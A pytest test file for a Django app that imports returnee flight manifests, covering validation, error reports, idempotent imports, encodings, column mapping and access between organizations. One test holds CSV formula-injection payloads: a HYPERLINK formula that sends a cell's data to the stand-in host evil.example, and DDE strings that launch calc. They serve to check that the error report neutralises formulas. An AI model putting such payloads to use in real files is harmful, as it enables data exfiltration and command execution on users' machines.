"""Importing a flight's manifest: all or nothing, row by row errors, idempotent, background for big files."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from incluye.core.identity import dpi_check_digit
from incluye.core.models import ActionLogEntry
from incluye.people.models import ManifestImport, Person, ReturnEvent

pytestmark = pytest.mark.django_db
HEADER = [
    "nombres",
    "primer_apellido",
    "segundo_apellido",
    "sexo",
    "fecha_nacimiento",
    "dpi",
    "telefono",
    "municipio",
    "necesidades",
]


def dpi(n: int, place: str = "0901") -> str:
    first = f"{10_000_000 + n * 7919:08d}"[-8:]
    while dpi_check_digit(first) is None:
        n += 1
        first = f"{10_000_000 + n * 7919:08d}"[-8:]
    return f"{first}{dpi_check_digit(first)}{place}"


def rows(count: int) -> list[list[str]]:
    result, n = [], 0
    while len(result) < count:
        n += 1
        number = dpi(n)
        if any(r[5] == number for r in result):
            continue
        result.append(
            ["José Luis", f"Pérez{len(result)}", "Núñez", "M", "1990-04-12", number, "", "Quetzaltenango", ""]
        )
    return result


def csv_bytes(data: list[list[str]], header=HEADER, encoding="utf-8", delimiter=",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(data)
    return out.getvalue().encode(encoding)


def upload(
    client, content: bytes, name="vuelo.csv", reference="TA-102 2026-11-20", arrived_on="2026-11-20", **extra
):
    return client.post(
        reverse("people:manifests"),
        {
            "reference": reference,
            "arrived_on": arrived_on,
            "mode": "air",
            "returned_from": "US",
            "file": SimpleUploadedFile(name, content),
            **extra,
        },
    )


def latest():
    return ManifestImport.objects.latest("created_at")


def test_a_flight_of_135_is_checked_then_imported_with_its_returns(personas):
    client = personas.client("staff")
    response = upload(client, csv_bytes(rows(135)))
    manifest = latest()
    assert response.status_code == 302
    assert manifest.status == "ready"
    assert manifest.total_rows == 135
    assert Person.objects.count() == 0  # nothing before the officer confirms
    page = client.get(reverse("people:manifest", args=[manifest.pk])).content.decode()
    assert "José Luis Pérez0 Núñez" in page
    client.post(reverse("people:manifest_import", args=[manifest.pk]))
    manifest.refresh_from_db()
    assert manifest.status == "imported"
    assert Person.objects.filter(organization=personas.org).count() == 135
    assert (
        ReturnEvent.objects.filter(manifest=manifest, arrived_on=datetime.date(2026, 11, 20)).count() == 135
    )
    assert Person.objects.filter(residence__code="0901").count() == 135
    assert ActionLogEntry.objects.get(action="incluye.manifest.imported").data == {
        "created": 135,
        "attached": 0,
        "skipped": 0,
        "households": 0,
        "family_members": 0,
        "statuses": 0,  # a list of returnees declares no migration status
    }


def test_a_bad_dpi_on_row_87_is_reported_and_nothing_is_imported(personas):
    data = rows(120)
    data[85][5] = (
        data[85][5][:8] + str((int(data[85][5][8]) + 1) % 10) + data[85][5][9:]
    )  # spreadsheet row 87
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    manifest = latest()
    assert manifest.status == "invalid"
    assert [(e["row"], e["column"]) for e in manifest.errors] == [(87, "dpi")]
    assert "dígito verificador" in manifest.errors[0]["message"]
    response = client.post(reverse("people:manifest_import", args=[manifest.pk]))
    assert response.status_code == 302
    assert Person.objects.count() == 0


def test_the_error_report_is_the_file_with_an_errores_column_to_fix_and_upload_again(personas):
    data = rows(5)
    data[2][0] = ""  # no given names on spreadsheet row 4
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    manifest = latest()
    report = client.get(reverse("people:manifest_errors", args=[manifest.pk])).content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(report)))
    assert table[0] == [*HEADER, "errores"]
    assert table[3][-1].startswith("nombres: ")
    assert [r[-1] for r in table[1:] if r[-1]] == [table[3][-1]]
    # Fix the row in the report and upload it again: it imports.
    table[3][0] = "Ana"
    fixed = csv_bytes(list(table[1:]), header=table[0])
    upload(client, fixed, reference="TA-102 2026-11-20 (b)")
    assert latest().status == "ready"


def test_the_error_report_never_hands_a_formula_back_to_the_spreadsheet(personas):
    data = rows(3)
    data[0][0] = '=HYPERLINK("http://evil.example/?"&B2,"Ver")'
    data[1][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data[2][8] = "=cmd|' /C calc'!A0"
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    manifest = latest()
    report = client.get(reverse("people:manifest_errors", args=[manifest.pk])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert '\'=HYPERLINK("http://evil.example/?"&B2,"Ver")' in cells


def test_importing_the_same_manifest_twice_creates_nothing_twice(personas):
    client = personas.client("staff")
    for _ in range(2):
        upload(client, csv_bytes(rows(10)))
        client.post(reverse("people:manifest_import", args=[latest().pk]))
    assert Person.objects.count() == 10
    assert ReturnEvent.objects.count() == 10
    assert latest().skipped_count == 10


def test_a_returning_person_gets_a_new_return_not_a_second_record(personas):
    client = personas.client("staff")
    upload(client, csv_bytes(rows(3)), reference="TA-100", arrived_on="2026-10-02")
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    upload(client, csv_bytes(rows(3)), reference="TA-200")
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    assert Person.objects.count() == 3
    assert ReturnEvent.objects.count() == 6


def test_the_same_list_under_another_reference_creates_nothing_twice(personas):
    client = personas.client("staff")
    data = rows(4)
    upload(client, csv_bytes(data), reference="TA-100")
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    upload(client, csv_bytes(list(reversed(data))), reference="TA-100 bis")
    manifest = latest()
    assert manifest.review["new"] == 0 and manifest.review["known"] == 4
    client.post(reverse("people:manifest_import", args=[manifest.pk]))
    assert (Person.objects.count(), ReturnEvent.objects.count()) == (4, 4)


def test_a_windows_1252_file_keeps_its_accents(personas):
    upload(personas.client("staff"), csv_bytes(rows(3), encoding="cp1252", delimiter=";"))
    manifest = latest()
    assert manifest.status == "ready"
    assert manifest.preview[0]["name"] == "José Luis Pérez0 Núñez"


def test_a_file_that_is_not_a_table_gets_a_clear_message(personas):
    upload(personas.client("staff"), b"\x00\x01\x02garbage" * 50, name="vuelo.csv")
    manifest = latest()
    assert manifest.status == "invalid"
    assert "CSV" in manifest.errors[0]["message"]


def test_missing_columns_are_named_and_the_officer_can_map_them(personas):
    client = personas.client("staff")
    header = ["persona", "apellidos de la persona", "identificador"]
    upload(client, csv_bytes([["Ana", "López", dpi(1)]], header=header))
    manifest = latest()
    assert manifest.status == "invalid"
    assert "Columnas faltantes" in manifest.errors[0]["message"]
    page = client.get(reverse("people:manifest_mapping", args=[manifest.pk])).content.decode()
    assert "identificador" in page
    client.post(
        reverse("people:manifest_mapping", args=[manifest.pk]),
        {
            "name": "Kobo recepción",
            "column_0": "given_names",
            "column_1": "first_surname",
            "column_2": "document_number",
        },
    )
    manifest.refresh_from_db()
    assert manifest.status == "ready"
    assert manifest.mapping.columns == {
        "persona": "given_names",
        "apellidos de la persona": "first_surname",
        "identificador": "document_number",
    }


def test_a_kobo_export_with_group_paths_and_multiple_answers_is_understood(personas):
    header = [
        "datos/nombres",
        "datos/primer_apellido",
        "datos/segundo_apellido",
        "triage/necesidades",
        "_uuid",
    ]
    data = [["María", "Caal", "Choc", "medical protection", "a1"], ["Pedro", "Xol", "", "", "a2"]]
    upload(personas.client("staff"), csv_bytes(data, header=header))
    manifest = latest()
    assert manifest.status == "ready"
    assert manifest.preview[0]["needs"] == ["medical", "protection"]


def test_an_xlsx_manifest_is_read_including_excel_dates(personas):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["Rosa", "Tzul", "Pérez", "F", datetime.datetime(1988, 2, 3), dpi(7), "", "0901", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    upload(personas.client("staff"), buffer.getvalue(), name="vuelo.xlsx")
    manifest = latest()
    assert manifest.status == "ready"
    assert manifest.preview[0]["birth_date"] == "1988-02-03"


def test_duplicate_rows_and_repeated_ids_are_errors(personas):
    data = rows(4)
    data.append(list(data[1]))  # the same row again
    data.append([*data[2][:5], data[0][5], *data[2][6:]])  # another row with row 2's DPI
    upload(personas.client("staff"), csv_bytes(data))
    errors = latest().errors
    assert {"row": 6, "column": "", "message": "Repite la fila 3."} in errors
    assert any(e["row"] == 7 and "fila 2" in e["message"] for e in errors)


def test_a_50_mb_file_is_refused_before_anything_is_stored(personas):
    response = upload(personas.client("staff"), b"a" * (50 * 1024 * 1024))
    assert response.status_code == 400
    assert "50 MB" in response.content.decode()
    assert not ManifestImport.objects.exists()


def test_a_big_manifest_is_checked_and_imported_in_the_background(
    personas, django_capture_on_commit_callbacks
):
    client = personas.client("staff")
    with django_capture_on_commit_callbacks(execute=True):
        upload(client, csv_bytes(rows(400)))
    manifest = latest()
    assert manifest.status == "ready"  # the immediate backend of the tests ran the task
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("people:manifest_import", args=[manifest.pk]))
    manifest.refresh_from_db()
    assert (manifest.status, manifest.created_count) == ("imported", 400)
    progress = client.get(reverse("people:manifest_progress", args=[manifest.pk]))
    assert progress["HX-Refresh"] == "true"


def test_another_organization_cannot_open_a_manifest(personas):
    upload(personas.client("staff"), csv_bytes(rows(2)))
    manifest = latest()
    outsider = personas.client("outsider")
    for name in (
        "people:manifest",
        "people:manifest_errors",
        "people:manifest_progress",
        "people:manifest_mapping",
    ):
        assert outsider.get(reverse(name, args=[manifest.pk])).status_code == 404
    assert outsider.post(reverse("people:manifest_import", args=[manifest.pk])).status_code == 404


def test_a_person_without_documents_is_imported_without_one(personas):
    data = rows(2)
    data[1][5] = ""
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    assert Person.objects.count() == 2
    assert Person.objects.filter(documents__isnull=True).count() == 1


def test_the_checked_rows_kept_between_check_and_import_are_deleted_after_import(personas):
    client = personas.client("staff")
    upload(client, csv_bytes(rows(3)))
    manifest = latest()
    stored = manifest.checked_rows.path
    import os

    assert os.path.exists(stored)
    client.post(reverse("people:manifest_import", args=[manifest.pk]))
    manifest.refresh_from_db()
    assert not manifest.checked_rows
    assert not os.path.exists(stored)


def test_a_dpi_known_to_another_organization_does_not_block_this_ones_import(personas):
    from incluye.core.models import IdDocumentType
    from incluye.people.services import person_register

    data = rows(2)
    other = person_register(
        membership=personas.outsider,
        given_names="José Luis",
        first_surname="Pérez0",
        nationality_id="GT",
        documents=[(IdDocumentType.objects.get(country_id="GT", code="DPI"), data[0][5])],
    )
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    assert Person.objects.filter(organization=personas.org).count() == 2
    assert other.returns.count() == 0  # nothing crosses organizations


def test_imported_needs_are_stored_and_make_the_return_urgent(personas):
    data = rows(2)
    data[0][8] = "medical protection"
    client = personas.client("staff")
    upload(client, csv_bytes(data))
    client.post(reverse("people:manifest_import", args=[latest().pk]))
    urgent = ReturnEvent.objects.get(is_urgent=True)
    assert urgent.vulnerabilities == ["medical", "protection"]
    assert urgent.person.first_surname == "Pérez0"


@pytest.mark.parametrize(
    "row",
    [
        {"given_names": "Ana María", "first_surname": "Coc", "sex": "F", "birth_date": "12/04/1990"},
        {"given_names": "Ana", "first_surname": "Coc", "birth_date": "31/02/1990", "phone": "12"},
        {"first_surname": "Coc", "birth_date": "2099-01-01", "household_size": "90"},
        {"given_names": "Luis", "second_surname": "Xol", "document_number": "123", "document_type": "DPI"},
        {"given_names": "Luis", "first_surname": "Xol", "residence": "9999", "needs": ["nada"]},
    ],
)
def test_a_manifest_row_is_checked_exactly_as_the_intake_form_checks_it(personas, row):
    """The check rebinds one form per row without building its bound fields: every value and every
    error is the intake form's own."""
    from incluye.people.forms import IntakeForm

    data = {"arrived_on": "2026-11-20", "mode": "air", "returned_from": "US", **row}
    data.update(consent_method="signed_form", birth_date_precision="day", education="unknown")
    data.setdefault("sex", "X")
    template = IntakeForm(organization=personas.org)
    rebound, fresh = template.rebound(data), IntakeForm(data, organization=personas.org)
    assert rebound.is_valid() == fresh.is_valid()
    assert rebound.errors.get_json_data() == fresh.errors.get_json_data()
    assert rebound.cleaned_data == fresh.cleaned_data
